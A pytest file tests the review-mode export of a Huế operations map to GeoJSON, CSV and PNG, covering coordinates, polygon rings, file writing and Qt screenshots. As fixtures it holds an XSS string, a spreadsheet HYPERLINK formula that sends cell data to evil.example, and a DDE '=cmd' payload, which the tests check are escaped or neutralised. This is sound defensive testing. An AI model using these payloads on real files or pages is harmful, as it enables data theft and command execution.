"""Export the moment (review mode): the map's layers at T as GeoJSON and CSV, a PNG per
window.  Pure functions first (structure, [lon, lat] order, closed rings, hostile text
kept as text, bad coordinates skipped and counted, formulas neutralised, Huế time from
a fixed epoch), then a real MapView exported into a temporary folder."""
from __future__ import annotations

import csv
import io
import json
import os
import threading

import pytest
from PySide6 import QtGui, QtWidgets

from ioc_desktop.review import export
from ioc_desktop.review.export import (CSV_COLUMNS, as_of, build_moment, csv_cell, csv_text,
                                       feature_geometry, geojson_text, stamp, write_moment)

#: 2026-11-22T20:30:05Z: already the 23rd in Huế.
AT = 1795379405
AT_TEXT = "2026-11-23T03:30:05+07:00"
AT_STAMP = "20261123-033005"

RED = "#d62728"
LAND = "#f4f1e8"   # the province fill in ioc_map.js

HOSTILE = "<img src=x onerror=alert(1)></script><b>x</b> & \u2028"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def square(lat=16.40, lon=107.50, d=0.02, clockwise=True, closed=False):
    ring = [[lat, lon], [lat + d, lon], [lat + d, lon + d], [lat, lon + d]]
    if not clockwise:
        ring = ring[::-1]
    return ring + ([ring[0]] if closed else [])


def layers_fixture() -> dict:
    return {
        "reports": {"title": "Phản ánh hiện trường", "topic": "reports", "features": {
            "r1": {"key": "r1", "kind": "point", "lat": 16.4637, "lon": 107.5909, "color": "#0b0e11",
                   "fill": RED, "radius": 6, "weight": 1, "title": "Ổ gà trên đường Lê Lợi",
                   "status": "received", "severity": "minor",
                   "fields": [["Trạng thái", "Đã nhận"], ["Mô tả", "Ổ gà lớn"]]},
            "r2": {"key": "r2", "kind": "point", "lat": 16.47, "lon": 107.60, "title": HOSTILE,
                   "fields": [["<i>note</i>", FORMULA]]},
        }},
        "alerts": {"title": "Cảnh báo", "topic": "alerts", "features": {
            "a#0.0.p0": {"key": "a#0.0.p0", "kind": "polygon", "coords": square(), "color": "#ff0000",
                         "fill": "#ff0000", "fill_opacity": 0.18, "title": "Lũ", "fields": []},
            "a#0.0.c0": {"key": "a#0.0.c0", "kind": "circle", "lat": 16.5, "lon": 107.55, "radius_m": 1500,
                         "title": "Vùng ngập"},
        }},
        "vessel-tracks": {"title": "Tracks", "topic": "vessels", "features": {
            "v1": {"key": "v1", "kind": "polyline", "coords": [[16.60, 107.70], [16.60, 107.72], [16.62, 107.72]],
                   "title": "QNg-1234"},
        }},
    }


def by_key(collection: dict) -> dict[str, dict]:
    return {f["properties"]["key"]: f for f in collection["features"]}


def csv_rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


# --------------------------------------------------------------------------- time
def test_moment_is_written_in_hue_time_from_a_fixed_epoch():
    assert as_of(AT) == AT_TEXT
    assert stamp(AT) == AT_STAMP
    assert as_of(AT + 0.9) == AT_TEXT                 # whole seconds
    m = build_moment(layers_fixture(), AT)
    assert m.geojson["as_of"] == AT_TEXT
    assert {f["properties"]["as_of"] for f in m.geojson["features"]} == {AT_TEXT}
    for bad in (float("nan"), float("inf"), "1795379405", None):
        with pytest.raises(ValueError):
            as_of(bad)


# --------------------------------------------------------------------------- GeoJSON
def test_geojson_structure_and_lon_lat_order():
    collection = json.loads(geojson_text(build_moment(layers_fixture(), AT)))
    assert collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == 5
    assert [layer["id"] for layer in collection["layers"]] == ["reports", "alerts", "vessel-tracks"]
    for f in collection["features"]:
        assert f["type"] == "Feature" and set(f) >= {"geometry", "properties"}
        assert f["geometry"]["type"] in ("Point", "Polygon", "LineString")
    feats = by_key(collection)
    r1 = feats["r1"]
    assert r1["geometry"] == {"type": "Point", "coordinates": [107.5909, 16.4637]}     # [lon, lat]
    props = r1["properties"]
    assert props["layer"] == "reports" and props["layer_title"] == "Phản ánh hiện trường"
    assert props["topic"] == "reports" and props["kind"] == "point"
    assert props["label"] == "Ổ gà trên đường Lê Lợi"
    assert props["color"] == "#0b0e11" and props["fill"] == RED
    assert props["status"] == "received" and props["severity"] == "minor"
    assert props["fields"] == [["Trạng thái", "Đã nhận"], ["Mô tả", "Ổ gà lớn"]]
    assert "radius" not in props and "weight" not in props and "lat" not in props
    circle = feats["a#0.0.c0"]
    assert circle["geometry"] == {"type": "Point", "coordinates": [107.55, 16.5]}
    assert circle["properties"]["radius_m"] == 1500 and circle["properties"]["kind"] == "circle"
    track = feats["v1"]
    assert track["geometry"]["type"] == "LineString"
    assert track["geometry"]["coordinates"] == [[107.70, 16.60], [107.72, 16.60], [107.72, 16.62]]
    assert track["properties"]["topic"] == "vessels"


def _signed_area(ring):
    return sum(x0 * y1 - x1 * y0 for (x0, y0), (x1, y1) in zip(ring, ring[1:])) / 2


@pytest.mark.parametrize("clockwise", [True, False])
@pytest.mark.parametrize("closed", [True, False])
def test_polygons_are_closed_counter_clockwise_rings(clockwise, closed):
    layers = {"l": {"title": "L", "features": {
        "p": {"kind": "polygon", "coords": square(clockwise=clockwise, closed=closed)}}}}
    geom = build_moment(layers, AT).geojson["features"][0]["geometry"]
    assert geom["type"] == "Polygon" and len(geom["coordinates"]) == 1
    ring = geom["coordinates"][0]
    assert len(ring) == 5 and ring[0] == ring[-1]            # closed, not closed twice
    assert _signed_area(ring) > 0                            # RFC 7946: exterior CCW
    assert all(107 < lon < 108 and 16 < lat < 17 for lon, lat in ring)


def test_hostile_text_stays_text_in_geojson():
    text = geojson_text(build_moment(layers_fixture(), AT))
    for markup in ("<img", "</script>", "<b>", "<i>", "\u2028"):
        assert markup not in text                    # escaped as \u003c..., inert in a page
    r2 = by_key(json.loads(text))["r2"]["properties"]
    assert r2["label"] == HOSTILE                    # the same characters, not entities
    assert r2["fields"] == [["<i>note</i>", FORMULA]]
    assert "&lt;" not in text


def test_control_characters_and_non_finite_numbers():
    layers = {"l": {"title": "L\x00", "features": {
        "k": {"kind": "point", "lat": 16.5, "lon": 107.5, "title": "a\x1bb\r\nc\td",
              "level": float("nan"), "depth": float("inf"), "ok": True, "nested": {"x": 1}}}}}
    text = geojson_text(build_moment(layers, AT))
    props = json.loads(text)["features"][0]["properties"]     # strict JSON: no NaN token
    assert "NaN" not in text and "Infinity" not in text
    assert props["label"] == "ab\nc\td" and props["layer_title"] == "L"
    assert props["level"] is None and props["depth"] is None and props["ok"] is True
    assert "nested" not in props                              # only scalars become properties


# --------------------------------------------------------------------------- bad input
def test_bad_coordinates_are_skipped_and_counted():
    nan, inf = float("nan"), float("inf")
    bad = {
        "nan": {"kind": "point", "lat": nan, "lon": 107.5},
        "inf": {"kind": "point", "lat": 16.5, "lon": inf},
        "lat95": {"kind": "point", "lat": 95.0, "lon": 107.5},
        "lon200": {"kind": "point", "lat": 16.5, "lon": 200.0},
        "strlat": {"kind": "point", "lat": "16.5", "lon": 107.5},
        "boollat": {"kind": "point", "lat": True, "lon": 107.5},
        "nolon": {"kind": "point", "lat": 16.5},
        "poly-none": {"kind": "polygon", "coords": [[16.4, 107.5], [16.5, None], [16.6, 107.6]]},
        "poly-short": {"kind": "polygon", "coords": [[16.4, 107.5], [16.5, 107.6]]},
        "poly-flat": {"kind": "polygon", "coords": [[16.4, 107.5], [16.5, 107.6], [16.4, 107.5]]},
        "poly-nan": {"kind": "polygon", "coords": [[16.4, 107.5], [16.5, 107.6], [nan, 107.7]]},
        "line-short": {"kind": "polyline", "coords": [[16.4, 107.5]]},
        "line-str": {"kind": "polyline", "coords": "16.4,107.5 16.5,107.6"},
        "circle-neg": {"kind": "circle", "lat": 16.5, "lon": 107.5, "radius_m": -5},
        "circle-nan": {"kind": "circle", "lat": 16.5, "lon": 107.5, "radius_m": nan},
        "hexagon": {"kind": "hexagon", "lat": 16.5, "lon": 107.5},
        "not-a-dict": "a feature?",
    }
    good = {"g1": {"kind": "point", "lat": -90, "lon": 180},
            "g2": {"kind": "polyline", "coords": [(16.4, 107.5), (16.5, 107.6)]}}
    m = build_moment({"mixed": {"title": "Mixed", "features": {**bad, **good}},
                      "fine": {"title": "Fine", "features": {"f": {"kind": "point", "lat": 1, "lon": 2}}}}, AT)
    assert m.exported == 3
    assert m.skipped == len(bad)
    assert m.skipped_by_layer == {"mixed": len(bad)}
    assert [(x["id"], x["features"], x["skipped"]) for x in m.geojson["layers"]] == [
        ("mixed", 2, len(bad)), ("fine", 1, 0)]
    assert {f["properties"]["key"] for f in m.geojson["features"]} == {"g1", "g2", "f"}
    assert by_key(m.geojson)["f"]["geometry"]["coordinates"] == [2, 1]
    assert len(csv_rows(csv_text(m))) == 3
    json.loads(geojson_text(m))


def test_feature_geometry_refuses_what_the_map_refuses():
    assert feature_geometry(None) is None
    assert feature_geometry({"kind": "point", "lat": 16.5, "lon": -180.0001}) is None
    geom, (lat, lon) = feature_geometry({"kind": "point", "lat": 16.5, "lon": 107.5})
    assert geom["coordinates"] == [107.5, 16.5] and (lat, lon) == (16.5, 107.5)


def test_empty_map_gives_an_empty_valid_collection():
    m = build_moment({}, AT)
    assert json.loads(geojson_text(m)) == {"type": "FeatureCollection", "as_of": AT_TEXT,
                                           "layers": [], "features": []}
    assert csv_rows(csv_text(m)) == []
    assert csv_text(m).splitlines()[0].split(",") == list(CSV_COLUMNS)


# --------------------------------------------------------------------------- CSV
def test_csv_one_file_with_a_layer_column_and_centroids():
    rows = {r["key"]: r for r in csv_rows(csv_text(build_moment(layers_fixture(), AT)))}
    assert set(rows) == {"r1", "r2", "a#0.0.p0", "a#0.0.c0", "v1"}
    header = list(next(iter(rows.values())))
    assert header[:len(CSV_COLUMNS)] == list(CSV_COLUMNS)
    assert "severity" in header and "status" in header
    r1 = rows["r1"]
    assert (r1["layer"], r1["layer_title"], r1["kind"]) == ("reports", "Phản ánh hiện trường", "point")
    assert (float(r1["lat"]), float(r1["lon"])) == (16.4637, 107.5909)
    assert r1["label"] == "Ổ gà trên đường Lê Lợi" and r1["as_of"] == AT_TEXT
    assert r1["details"] == "Trạng thái: Đã nhận; Mô tả: Ổ gà lớn"
    assert r1["severity"] == "minor" and rows["v1"]["severity"] == ""
    poly = rows["a#0.0.p0"]                       # the square's centre
    assert float(poly["lat"]) == pytest.approx(16.41) and float(poly["lon"]) == pytest.approx(107.51)
    circle = rows["a#0.0.c0"]
    assert (float(circle["lat"]), float(circle["lon"]), float(circle["radius_m"])) == (16.5, 107.55, 1500)
    track = rows["v1"]                            # length-weighted: both legs 0.02 long
    assert float(track["lat"]) == pytest.approx(16.605) and float(track["lon"]) == pytest.approx(107.715)


def test_csv_neutralises_formulas_and_keeps_markup_as_text():
    rows = {r["key"]: r for r in csv_rows(csv_text(build_moment(layers_fixture(), AT)))}
    r2 = rows["r2"]
    assert r2["label"] == HOSTILE                                   # literal text, no entities
    assert r2["details"] == "<i>note</i>: " + FORMULA               # starts with "<": not a formula
    for text in (FORMULA, "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert csv_cell(text) == "'" + text
    for text in ("Huế", "a=b", "", " x"):
        assert csv_cell(text) == text
    assert csv_cell(-16.5) == -16.5 and csv_cell(None) == "" and csv_cell(float("nan")) == ""
    layers = {"l": {"title": "=cmd|' /C calc'!A0", "features": {
        "-k": {"kind": "point", "lat": 16.5, "lon": 107.5, "title": "@evil", "note": "+danger",
               "fields": [["=x", "y"]]}}}}
    row = csv_rows(csv_text(build_moment(layers, AT)))[0]
    assert row["layer_title"] == "'=cmd|' /C calc'!A0"
    assert row["key"] == "'-k" and row["label"] == "'@evil" and row["note"] == "'+danger"
    assert row["details"] == "'=x: y"
    assert float(row["lat"]) == 16.5


# --------------------------------------------------------------------------- files
def test_write_moment_names_files_by_hue_time_atomically_in_utf8(tmp_path):
    out = tmp_path / "report" / "maps"
    paths = write_moment(out, layers_fixture(), AT)
    assert [p.name for p in paths] == [f"map-layers-{AT_STAMP}.geojson", f"map-layers-{AT_STAMP}.csv"]
    assert sorted(os.listdir(out)) == sorted(p.name for p in paths)          # no temp file left
    assert paths.moment.exported == 5 and paths.moment.skipped == 0
    collection = json.loads(paths[0].read_bytes().decode("utf-8"))
    assert len(collection["features"]) == 5
    raw = paths[1].read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")                                   # UTF-8 with BOM
    rows = csv_rows(raw.decode("utf-8-sig"))
    assert {r["layer"] for r in rows} == {"reports", "alerts", "vessel-tracks"}
    assert "Ổ gà trên đường Lê Lợi" in {r["label"] for r in rows}
    other = write_moment(out, {}, AT, basename="incident-42")
    assert other[0].name == f"incident-42-{AT_STAMP}.geojson"


def test_a_failed_write_leaves_the_old_file_and_no_temp(tmp_path, monkeypatch):
    paths = write_moment(tmp_path, layers_fixture(), AT)
    before = paths[0].read_bytes()

    def fail(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export.os, "replace", fail)
    with pytest.raises(OSError):
        write_moment(tmp_path, {}, AT)
    assert paths[0].read_bytes() == before
    assert sorted(os.listdir(tmp_path)) == sorted(p.name for p in paths)


# =========================================================================== Qt
READY_TIMEOUT_MS = 20000


def _count(image: QtGui.QImage, hex_colour: str) -> int:
    target = QtGui.QColor(hex_colour).rgb() & 0xFFFFFFFF
    rgb = image.convertToFormat(QtGui.QImage.Format.Format_RGB32)
    return sum(1 for px in memoryview(rgb.constBits()).cast("I") if px == target)


@pytest.fixture
def console(qtbot):
    """A small window: a side panel and the real map with two layers, painted."""
    from widgets.map_view import MapView

    window = QtWidgets.QMainWindow()
    qtbot.addWidget(window)
    central = QtWidgets.QWidget()
    layout = QtWidgets.QHBoxLayout(central)
    layout.addWidget(QtWidgets.QLabel("Sự cố 42"))
    view = MapView(tiles=False)
    layout.addWidget(view, 1)
    window.setCentralWidget(central)
    window.resize(520, 320)
    window.show()
    qtbot.waitUntil(lambda: view.is_ready, timeout=READY_TIMEOUT_MS)
    view.add_layer("reports", "Phản ánh", 10)
    view.add_layer("vessel-areas", "Vùng biển", 5, topic="vessels")
    view.apply_diff("reports", [
        {"key": "r1", "kind": "point", "lat": 16.46, "lon": 107.59, "radius": 18, "color": RED,
         "fill_opacity": 1.0, "title": HOSTILE, "status": "received"},
        {"key": "r2", "kind": "point", "lat": 16.30, "lon": 107.40, "color": RED, "title": FORMULA},
        {"key": "bad", "kind": "point", "lat": float("nan"), "lon": 107.5},
    ])
    view.apply_diff("vessel-areas", [{"key": "z1", "kind": "polygon", "coords": square(16.5, 107.6, 0.05),
                                      "color": "#2b7bd6", "title": "Vùng cấm"}])
    qtbot.waitUntil(lambda: _count(window.grab().toImage(), RED) > 300
                    and _count(window.grab().toImage(), LAND) > 2000, timeout=15000)
    return window, view


def test_layer_snapshot_is_a_copy_of_the_mirror(console):
    from widgets.review_export import map_layers

    _, view = console
    snap = map_layers(view)
    assert list(snap) == ["reports", "vessel-areas"]
    assert snap["vessel-areas"]["topic"] == "vessels" and snap["reports"]["title"] == "Phản ánh"
    assert set(snap["reports"]["features"]) == {"r1", "r2", "bad"}
    snap["vessel-areas"]["features"]["z1"]["coords"][0][0] = 0.0
    snap["reports"]["features"].clear()
    again = map_layers(view)
    assert again["vessel-areas"]["features"]["z1"]["coords"][0][0] == 16.5
    assert len(again["reports"]["features"]) == 3
    assert map_layers(None) == {}


def test_export_moment_writes_pictures_and_layers(console, tmp_path):
    from widgets.review_export import export_moment

    window, view = console
    result = export_moment(tmp_path / "out", AT, [("console", window), ("wall 1/left", view)], view)
    assert result.ok, result.errors
    names = [p.name for p in result]
    assert names == [f"console-{AT_STAMP}.png", f"wall_1_left-{AT_STAMP}.png",
                     f"map-layers-{AT_STAMP}.geojson", f"map-layers-{AT_STAMP}.csv"]
    assert sorted(os.listdir(tmp_path / "out")) == sorted(names)
    assert result.moment.exported == 3 and result.moment.skipped_by_layer == {"reports": 1}
    collection = json.loads(result[2].read_text(encoding="utf-8"))
    feats = by_key(collection)
    assert feats["r1"]["geometry"]["coordinates"] == [107.59, 16.46]
    assert feats["r1"]["properties"]["label"] == HOSTILE
    assert feats["z1"]["properties"]["layer"] == "vessel-areas"
    assert feats["z1"]["geometry"]["coordinates"][0][0] == feats["z1"]["geometry"]["coordinates"][0][-1]
    rows = {r["key"]: r for r in csv_rows(result[3].read_text(encoding="utf-8-sig"))}
    assert rows["r2"]["label"] == "'" + FORMULA
    image = QtGui.QImage(str(result[0]))
    assert not image.isNull() and image.width() >= 520 and image.height() >= 320
    assert _count(image, RED) > 300                 # the marker...
    assert _count(image, LAND) > 2000               # ...on the basemap: the map is in the picture
    assert len({image.pixel(x, y) for x in range(0, image.width(), 5) for y in range(0, image.height(), 5)}) > 30


def test_a_web_view_blank_in_the_window_grab_is_painted_from_its_own(console, monkeypatch):
    from widgets import review_export

    window, view = console
    real = window.grab()
    blank = QtGui.QPixmap(real.size())
    blank.setDevicePixelRatio(real.devicePixelRatio())
    blank.fill(QtGui.QColor("black"))
    monkeypatch.setattr(window, "grab", lambda *a: blank)        # a platform that loses the map
    image = review_export.grab_window(window)
    assert _count(image, RED) > 300 and _count(image, LAND) > 2000


def test_export_moment_async_calls_back_on_the_gui_thread(console, tmp_path, qtbot):
    from widgets.review_export import export_moment_async

    window, view = console
    got = []
    future = export_moment_async(tmp_path, AT, [("console", window)], view,
                                 lambda result: got.append((result, threading.current_thread())))
    qtbot.waitUntil(lambda: bool(got), timeout=10000)
    result, thread = got[0]
    assert future.result(timeout=10)[0] == list(result)
    assert thread is threading.main_thread()
    assert result.ok and [p.name for p in result] == [
        f"console-{AT_STAMP}.png", f"map-layers-{AT_STAMP}.geojson", f"map-layers-{AT_STAMP}.csv"]
    assert all(p.exists() for p in result)


def test_export_failure_is_reported_not_raised(console, tmp_path):
    from widgets.review_export import export_moment

    window, view = console
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    result = export_moment(blocker / "out", AT, [("console", window)], view)
    assert list(result) == [] and not result.ok
    assert len(result.errors) == 1 and "a-file" in result.errors[0]
    result = export_moment(tmp_path, AT, [("console", window)], None)       # no map: pictures only
    assert result.ok and [p.name for p in result] == [f"console-{AT_STAMP}.png"]
